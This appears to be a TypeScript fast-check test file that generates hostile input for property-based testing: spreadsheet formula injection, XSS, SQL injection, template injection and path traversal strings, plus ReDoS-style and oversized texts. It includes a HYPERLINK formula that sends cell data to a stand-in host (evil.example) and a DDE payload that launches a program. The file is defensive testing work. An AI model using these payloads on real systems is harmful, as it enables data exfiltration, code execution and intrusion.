import fc from 'fast-check'

/** What attackers, mistaken programs and unusual people are known to send. */
const known = [
  '=HYPERLINK("https://evil.example?"&A1,"Fehler")',
  '=IMPORTXML("https://evil.example","//a")',
  "=cmd|'/c calc'!A1",
  '+49 30 123456',
  '-2+3',
  '@SUM(1+1)',
  '|x',
  '%0A=1',
  '＝1+1',
  '＋49',
  '－1',
  '＠x',
  'x;=1+1',
  'x,"=1+1"',
  '"\r\n=1+1',
  '"";"=1+1";"',
  "'=1+1",
  "'n Abend",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title><svg onload=alert(1)>',
  '<!--',
  '&lt;script&gt;',
  'javascript:alert(1)',
  'https://evil.example/"onclick="alert(1)',
  'https://evil.example\\@good.example',
  "Robert'); DROP TABLE Anmeldungen;--",
  "' OR 1=1 --",
  '{{7*7}}<%= 7*7 %>',
  '../../etc/passwd',
  '\u202eGnirts\u202c',
  '\u2066RTL\u2069',
  'أحمد بن محمد',
  'Ж𝕏👩‍👩‍👧‍👦🇩🇪',
  'Zalgo\u0300\u0301\u0302\u0303',
  'a\0b',
  '\ud800',
  'x\udfff=1',
  '\ufeff=1',
  '\u3164=1',
  '\u2028=1',
  'true',
  '1/2',
  '0123',
  '1e5',
  '#REF!',
  '__proto__',
  '',
  ' ',
]

const before = fc.constantFrom(
  ...' \t\r\n\v\0\u00a0\u200b\u200f\u202e\u2066\ufeff\u3164\ufe0f\u2028\u2800\u00ad"\';,',
)
const sign = fc.constantFrom(...'=+-@|%＝＋－＠−﹢﹣﹦﹫⁺₌⩵')
const after = fc.constantFrom('1+1', 'SUM(A1)', 'cmd|x!A1', '"', ';=1', '\n=1', '')

/** A formula behind what hides it, perhaps inside of a text. */
const formula = fc
  .tuple(
    fc.constantFrom('', '', 'x;', 'x,', 'x\n', 'x"'),
    fc.array(before, { maxLength: 3 }),
    sign,
    after,
  )
  .map(([text, hidden, start, rest]) => text + hidden.join('') + start + rest)

/** Any characters, and halves of them. For its unit `binary` fast-check makes a table of all: a second, and 90 MB. */
const anyUnicode = fc
  .array(fc.oneof(fc.integer({ min: 0, max: 0xffff }), fc.integer({ min: 0, max: 0x10ffff })), {
    maxLength: 20,
  })
  .map((points) => String.fromCodePoint(...points))

/** What makes patterns for e-mail addresses try without end, had they been written carelessly. */
export const slowAddress = fc.constantFrom(
  'a'.repeat(1_000_000),
  `${'a'.repeat(60)}!`,
  `a@${'a'.repeat(1_000_000)}`,
  `a@${'a.'.repeat(500_000)}!`,
  `a@${`${'a'.repeat(63)}.`.repeat(15_000)}!`,
  `a@${'a-'.repeat(500_000)}`,
  `a@${'1'.repeat(63)}!`,
  '@'.repeat(1_000_000),
  `${'.'.repeat(500_000)}@x.de`,
)

/** Long beyond a cell, beyond several, and 1 MB; of what makes careless patterns slow. */
export const hugeText = fc
  .tuple(
    fc.constantFrom(
      ...['a', '=', '😀', '"', '\n', ' ', '<b>', 'a.', 'a@', '-', '\u200b', ';=', ', ', "'", '\0'],
    ),
    fc.constantFrom(48_999, 49_001, 100_001, 300_000, 1_000_000),
  )
  .map(([unit, length]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length))

export const hostileText = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...known) },
  { weight: 4, arbitrary: formula },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 3, arbitrary: anyUnicode },
)
